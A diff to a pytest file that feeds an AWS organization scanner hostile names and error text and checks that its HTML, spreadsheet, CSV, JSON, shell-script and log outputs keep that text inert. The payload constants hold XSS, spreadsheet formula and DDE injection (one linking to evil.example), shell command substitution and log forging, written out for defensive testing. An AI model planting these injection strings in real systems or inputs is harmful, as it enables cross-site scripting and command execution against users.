@@ -1,20 +1,33 @@
-"""A full scan of the demo organization through ``run_scan`` (run folder, every format, DEBUG
-log): no credential ever reaches an output, and the scan only ever reads from AWS."""
+"""One full scan of the demo organization through ``run_scan`` (run folder, every format, DEBUG
+log) while AWS hands over hostile text: account names, a trail name and an error message made
+of HTML, spreadsheet formulas and shell code.
+
+Checked on that run: every sink keeps the text inert (HTML escaped, spreadsheet cells are text,
+scripts cannot be broken out of), no credential reaches any output, and every AWS call of the
+scan is read-only.
+"""
 
 from __future__ import annotations
 
 import contextlib
+import csv
 import io
+import json
+import os
 import re
+import subprocess
 import zipfile
 from dataclasses import dataclass
+from html.parser import HTMLParser
 from pathlib import Path
+from typing import Any
 
+import openpyxl
 import pytest
 
 from orgscan.cli.scan_cmd import run_scan
 from tests.reliability.conftest import FAKE_CREDENTIALS, DemoWorld
-from tests.reliability.faults import FaultInjector
+from tests.reliability.faults import FaultInjector, on
 
 #: Read-only API operations: every call of a scan must be one of these.
 READ_ONLY = re.compile(r"^(Describe|Get|List|Head)[A-Za-z]+$")
@@ -31,13 +44,52 @@ class ScannedRun:
     exit_code: int
     calls: FaultInjector
 
+    @property
+    def run_dir(self) -> Path:
+        """The run folder ``latest`` points at."""
+        return self.output_dir / os.readlink(self.output_dir / "latest")
+
+
+#: Text AWS accepts in names and messages, each aimed at one kind of sink.
+XSS = "<script>alert('xss')</script><img src=x onerror=alert(1)>&amp;"
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+FORMULA_PLUS = "+cmd|' /C calc'!A0"
+SHELL = "it's \"$(touch PWNED1)\" `touch PWNED2` $HOME\ntouch PWNED3 #"
+TRAIL_NAME = "@SUM(1+1)</td><script>alert(2)</script>"
+MESSAGE = "Denied <b>by</b> =1+1 $(touch PWNED4)\n2026-01-01 CRITICAL forged line"
+#: Demo account -> the name Organizations returns for it in this run.
+HOSTILE_NAMES = {"payments-prod": SHELL, "orders-dev": XSS, "payments-dev": FORMULA,
+                 "sandbox-alice": FORMULA_PLUS}
+PAYLOADS = (XSS, FORMULA, FORMULA_PLUS, SHELL, TRAIL_NAME, MESSAGE)
+
+
+def _hostile_aws(world: DemoWorld) -> FaultInjector:
+    """Organizations, CloudTrail and S3 replies carrying hostile text."""
+    faults = FaultInjector()
+    names = {world.account(name): text for name, text in HOSTILE_NAMES.items()}
+
+    def rename_accounts(reply: dict[str, Any]) -> None:
+        for account in reply.get("Accounts", []):
+            account["Name"] = names.get(account["Id"], account["Name"])
+
+    def rename_trail(reply: dict[str, Any]) -> None:
+        for trail in reply.get("trailList", []):
+            if trail.get("TrailARN") == world.trail_arn("analytics-prod-trail"):
+                trail["Name"] = TRAIL_NAME
+
+    faults.mutate(on("organizations", "ListAccountsForParent"), rename_accounts)
+    faults.mutate(on("cloudtrail", "DescribeTrails"), rename_trail)
+    faults.error(on("s3", "GetObjectLockConfiguration", bucket="acme-orders-prod-cloudtrail"),
+                 "AccessDenied", 403, message=MESSAGE)
+    return faults
+
 
 @pytest.fixture(scope="module")
 def scanned_run(demo_world: DemoWorld, tmp_path_factory: pytest.TempPathFactory) -> ScannedRun:
-    output_dir = tmp_path_factory.mktemp("secrets") / "reports"
+    output_dir = tmp_path_factory.mktemp("full-run") / "reports"
     settings = demo_world.settings(output_dir=str(output_dir), log_level="DEBUG",
                                    exclude_accounts=[])
-    calls = FaultInjector()
+    calls = _hostile_aws(demo_world)
     terminal = io.StringIO()
     with contextlib.redirect_stdout(terminal), contextlib.redirect_stderr(terminal):
         code = run_scan(settings, demo_world.sessions(calls, settings))
@@ -78,3 +130,124 @@ def test_scan_calls_only_read_only_operations(demo_world: DemoWorld,
     assert {"DescribeTrails", "GetObjectLockConfiguration", "GetBucketVersioning", "ListBuckets",
             "DescribeRegions", "AssumeRole", "ListAccountsForParent"} <= operations
     assert scanned_run.calls.operations() == demo_world.baseline_calls.operations()
+
+
+# ---------------------------------------------------------------------- sinks of AWS text
+
+
+class _Html(HTMLParser):
+    """Collects what a browser would build: elements, attributes, script bodies and text."""
+
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.tags: list[str] = []
+        self.attributes: list[tuple[str, str | None]] = []
+        self.scripts: list[str] = []
+        self.text: list[str] = []
+        self._in_script = False
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append(tag)
+        self.attributes += attrs
+        self._in_script = tag == "script"
+
+    def handle_endtag(self, tag: str) -> None:
+        self._in_script = False
+
+    def handle_data(self, data: str) -> None:
+        (self.scripts if self._in_script else self.text).append(data)
+
+
+def test_report_html_shows_aws_text_as_text(scanned_run: ScannedRun) -> None:
+    page = _Html()
+    page.feed((scanned_run.run_dir / "report.html").read_text(encoding="utf-8"))
+
+    text = "\n".join(page.text)
+    for payload in (XSS, FORMULA, TRAIL_NAME):
+        assert payload in text  # shown to the reader, character for character
+    assert page.tags.count("script") == 1  # the report's own script only
+    assert page.tags.count("img") == 0
+    assert not any("alert(" in script for script in page.scripts)
+    # AWS text may sit inside an attribute's quoted value (sort keys); it never adds one.
+    assert not any(name.startswith("on") or (value or "").startswith("javascript:")
+                   for name, value in page.attributes)
+
+
+def test_report_xlsx_keeps_formula_text_as_text(scanned_run: ScannedRun) -> None:
+    workbook = openpyxl.load_workbook(scanned_run.run_dir / "report.xlsx")
+    found: set[str] = set()
+    for sheet in workbook.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                value = cell.value
+                if not isinstance(value, str):
+                    continue
+                hits = {payload for payload in PAYLOADS if payload in value}
+                if hits:
+                    assert cell.data_type == "s", (sheet.title, cell.coordinate, value)
+                found |= hits
+                if cell.data_type == "f":  # the workbook's own formulas hold no AWS text
+                    assert not any(p in value for p in ("HYPERLINK", "cmd|", "SUM(1+1)"))
+    assert {FORMULA, FORMULA_PLUS, TRAIL_NAME} <= found
+
+
+def test_findings_csv_cells_cannot_start_a_formula(scanned_run: ScannedRun) -> None:
+    with (scanned_run.run_dir / "findings.csv").open(encoding="utf-8", newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    names = [row["trail_name"] for row in rows]
+    assert "'" + TRAIL_NAME in names  # kept, with the quote that makes it text
+    for row in rows:
+        for value in row.values():
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
+    assert any(MESSAGE.replace("\n", " ") in row["reason"] or "PWNED4" in row["reason"]
+               for row in rows)
+
+
+def test_findings_json_keeps_aws_text_exactly(scanned_run: ScannedRun) -> None:
+    document = json.loads((scanned_run.run_dir / "findings.json").read_text(encoding="utf-8"))
+    names = {account["name"] for account in document["accounts"]}
+    assert set(HOSTILE_NAMES.values()) <= names
+    assert TRAIL_NAME in {finding["trail_name"] for finding in document["findings"]}
+    assert any(MESSAGE in error["message"] for error in document["errors"])
+
+
+FAKE_AWS = """#!/usr/bin/env bash
+# Answers get-caller-identity with FAKE_ACCOUNT; every other call fails (nothing is done yet).
+if [ "$1 $2" = "sts get-caller-identity" ]; then echo "$FAKE_ACCOUNT"; exit 0; fi
+exit 1
+"""
+
+
+def test_remediation_scripts_cannot_be_broken_out_of(scanned_run: ScannedRun,
+                                                      tmp_path: Path) -> None:
+    scripts = sorted((scanned_run.run_dir / "remediation").glob("*.sh"))
+    hostile = [script for script in scripts if "PWNED1" in script.read_text(encoding="utf-8")]
+    assert hostile, "the hostile account name should reach a script"
+    bin_dir = tmp_path / "bin"
+    bin_dir.mkdir()
+    (bin_dir / "aws").write_text(FAKE_AWS, encoding="utf-8")
+    (bin_dir / "aws").chmod(0o755)
+    work = tmp_path / "work"
+    work.mkdir()
+    env = {key: value for key, value in os.environ.items() if not key.startswith("AWS_")}
+    for script in scripts:
+        text = script.read_text(encoding="utf-8")
+        for line in text.splitlines():
+            if "PWNED" in line:  # AWS text only ever inside a comment
+                assert line.startswith("#"), line
+        env.update(PATH=f"{bin_dir}:{env['PATH']}", FAKE_ACCOUNT=script.stem, HOME=str(work))
+        done = subprocess.run(["bash", str(script)], capture_output=True, text=True, env=env,
+                              cwd=work, timeout=60, check=False)
+        assert done.returncode == 0, done.stderr
+        assert "would run:" in done.stdout
+    assert list(work.rglob("*")) == []
+    assert not list(scanned_run.run_dir.rglob("PWNED*"))
+
+
+def test_logs_cannot_be_forged_by_aws_text(scanned_run: ScannedRun) -> None:
+    logs = [path for path in scanned_run.output_dir.rglob("*.log")]
+    assert len(logs) >= 2  # the run's own log and the output folder's shared one
+    for log in logs:
+        lines = log.read_text(encoding="utf-8").splitlines()
+        assert any("forged line" in line for line in lines)  # the message is logged ...
+        assert not any(line.startswith("2026-01-01") for line in lines)  # ... on its own line
